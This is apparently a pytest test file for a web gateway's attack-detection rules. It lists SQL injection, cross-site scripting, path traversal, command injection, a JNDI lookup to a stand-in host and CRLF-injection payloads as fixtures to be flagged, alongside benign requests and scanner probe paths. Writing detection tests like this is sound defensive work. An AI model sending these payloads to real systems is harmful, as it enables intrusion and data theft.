from __future__ import annotations

import re
import time
from pathlib import Path
from typing import get_args

import pytest

from bridge.process.bans import Reason
from gateway.protection import rules
from gateway.protection.rules import RULES, matches, of_answer
from rescue.bans.requests import Reason as HelpersReason

ROOT = Path(__file__).parents[4]

ATTACKS = {
    "sql": [
        ("/api/v1/health/symptoms", "text=1%27%20UNION%20ALL%20SELECT%20NULL%2CNULL--%20-"),
        ("/api/v1/health/symptoms", "limit=1)%20AND%205742=5742%20AND%20(3=3"),
        ("/api/v1/health/symptoms", "text=x'+OR+'1'%3D'1"),
        ("/api/v1/health/symptoms", "limit=1;SELECT%20PG_SLEEP(5)--"),
        ("/api/v1/health/symptoms", "limit=(SELECT%20CASE%20WHEN%20(1=1)%20THEN%201%20END)"),
        ("/", "id=1%20ORDER%20BY%2010--"),
        ("/", "id=1%2527%2520UNION%252F%252A%252A%252FSELECT%25201"),
        ("/", "id=1 AND SLEEP(5)".replace(" ", "+")),
        ("/", "t=information_schema.tables"),
        ("/", "t=1;WAITFOR%20DELAY%20'0:0:5'"),
        ("/", "limit=(CASE%20WHEN%207664=5767%20THEN%207664%20ELSE%20NULL%20END)"),
        ("/", "limit=20%20AND%208199=DBMS_PIPE.RECEIVE_MESSAGE(CHR(121),5)"),
        ("/", "text=headache;SELECT%20COUNT(*)%20FROM%20GENERATE_SERIES(1,5000000)--"),
    ],
    "script": [
        ("/", "q=%3Cscript%3Ealert(1)%3C/script%3E"),
        ("/", 'q="><img src=x onerror=alert(1)>'.replace(" ", "%20")),
        ("/sign-in", "next=javascript:alert(1)"),
    ],
    "traversal": [
        ("/static/..%2f..%2f..%2fetc%2fpasswd", ""),
        ("/static/%252e%252e%252f%252e%252e%252fetc/passwd", ""),
        ("/", "file=../../../../windows/win.ini"),
        ("/", "page=php://filter/convert.base64-encode/resource=index"),
    ],
    "command": [
        ("/", "host=127.0.0.1;cat%20/etc/hostname"),
        ("/", "host=`id`"),
        ("/", "name=${jndi:ldap://x.test/a}"),
        ("/", "name={{7*7}}"),
    ],
    "control": [("/sign-in", "next=%0d%0aSet-Cookie:%20a=b"), ("/static/a%00.css", "")],
}

EVERYDAY = [
    ("/", ""),
    ("/sign-in", "next=/"),
    ("/sign-in", "next=/status%3Fpart%3Dline&notice=signed-out"),
    ("/auth/refresh", "next=/"),
    ("/static/drawbridge-1a2b3c4d.css", ""),
    ("/api/v1/health/symptoms", "symptom=Headache&start=2026-05-01&end=2026-06-01&sort=-severity&limit=50"),
    ("/api/v1/health/symptoms", "text=pain+after+sleep+(bad)+or+rest;+worse+on+load"),
    ("/api/v1/health/symptoms", "text=I%20can%27t%20sleep%20and%20don%27t%20eat%20or%20drink"),
    ("/api/v1/health/symptoms", "text=select+foods+and+union+meetings%2C+order+by+phone"),
    ("/api/v1/health/symptoms", "text=temperature+%3E+38+and+pulse+%3C+60"),
    ("/api/v1/health/symptoms", "text=50%25+better"),
    ("/api/v1/health/symptoms", "text=worse+(case+when+tired)+or+hot%3Bselect+what+helps"),
    ("/api/v1/health/symptoms", "text=Kopfweh+%C3%BCber+Nacht+%E2%80%A6+schlimmer"),
    ("/api/v1/health/symptoms", "cursor=eyJrIjoiMjAyNi0wNS0wMVQxMDowMDowMFoiLCJpIjoiMTIifQ&limit=20"),
    ("/.well-known/security.txt", ""),
    ("/api/v1/health/symptoms/stats", "bucket=month&time_zone=Europe/Berlin"),
]


@pytest.mark.story("health/US-BE-31.2")
@pytest.mark.parametrize("rule", ATTACKS)
def test_attack_is_recognised_when_it_is_in_path_or_query(rule: str) -> None:
    missed = [(path, query) for path, query in ATTACKS[rule] if rule not in {each.id for each in matches(path, query)}]
    assert missed == []


def test_attack_counts_once_for_each_rule() -> None:
    found = [rule.id for rule in matches("/", "q=' or 1=1 union select 1&p=<script>")]
    assert sorted(found) == ["script", "sql"]


@pytest.mark.parametrize(("path", "query"), EVERYDAY)
def test_nothing_is_recognised_when_people_ask(path: str, query: str) -> None:
    assert [*matches(path, query)] == []


@pytest.mark.parametrize(
    "path",
    ["/.env", "/.git/config", "/wp-login.php", "/wp-admin/", "/phpmyadmin/", "/cgi-bin/test.cgi", "/backup.zip",
     "/actuator/health", "/index.php", "/server-status", "/config.yml.bak", "/%2eenv", "/HNAP1/", "/backup/"],
)  # fmt: skip
def test_path_is_a_scanners_when_other_products_have_it(path: str) -> None:
    found = of_answer(404, path, is_routed=False, is_sign_in=False)
    assert found is rules.SCANNER_PATH


@pytest.mark.parametrize("path", ["/admin", "/login", "/hilfe", "/symptoms", "/api/v2/health", "/backups.of.mine"])
def test_path_is_only_not_found_when_a_person_might_guess_it(path: str) -> None:
    assert of_answer(404, path, is_routed=False, is_sign_in=False) is rules.NOT_FOUND


@pytest.mark.parametrize(
    "path",
    ["/favicon.ico", "/robots.txt", "/apple-touch-icon-precomposed.png", "/.well-known/change-password", "/sw.js"],
)
def test_path_counts_for_nothing_when_browsers_ask_for_it_unasked(path: str) -> None:
    assert of_answer(404, path, is_routed=False, is_sign_in=False) is None


@pytest.mark.parametrize(
    ("status", "rule"),
    [(200, None), (303, None), (304, None), (400, "malformed"), (401, "refused"), (403, "refused"),
     (405, "malformed"), (413, "malformed"), (429, "over-limit"), (404, None), (500, None), (503, None)],
)  # fmt: skip
def test_answer_counts_by_its_status_when_there_is_a_route(status: int, rule: str | None) -> None:
    found = of_answer(status, "/", is_routed=True, is_sign_in=False)
    assert (found.id if found else None) == rule


def test_answer_counts_as_a_failed_sign_in_when_the_password_was_wrong() -> None:
    assert of_answer(401, "/auth/login", is_routed=True, is_sign_in=True) is rules.SIGN_IN


def test_rules_and_their_points_are_those_of_the_documentation() -> None:
    text = (ROOT / "docs" / "protection.md").read_text("utf-8")
    listed = re.findall(r"^\| `([a-z-]+)` \| (\d+) \|", text, re.MULTILINE)
    assert listed == [(rule.id, str(rule.points)) for rule in RULES]


def test_reasons_are_words_of_the_ban_helper() -> None:
    assert {*get_args(Reason), "manual"} == {*HelpersReason}
    assert {rule.reason for rule in RULES} <= {*get_args(Reason)}


@pytest.mark.story("health/US-BE-31.5")
def test_longest_request_line_is_judged_at_once() -> None:
    worst = max(_judged_s(text) for text in ("'" * 8000, "%27 or " * 1100, "../" * 2600, "<" * 8000, "a=" * 4000))
    assert worst < 0.05


def _judged_s(query: str) -> float:
    began = time.process_time()
    list(matches("/" + query, query[:8]))
    return time.process_time() - began
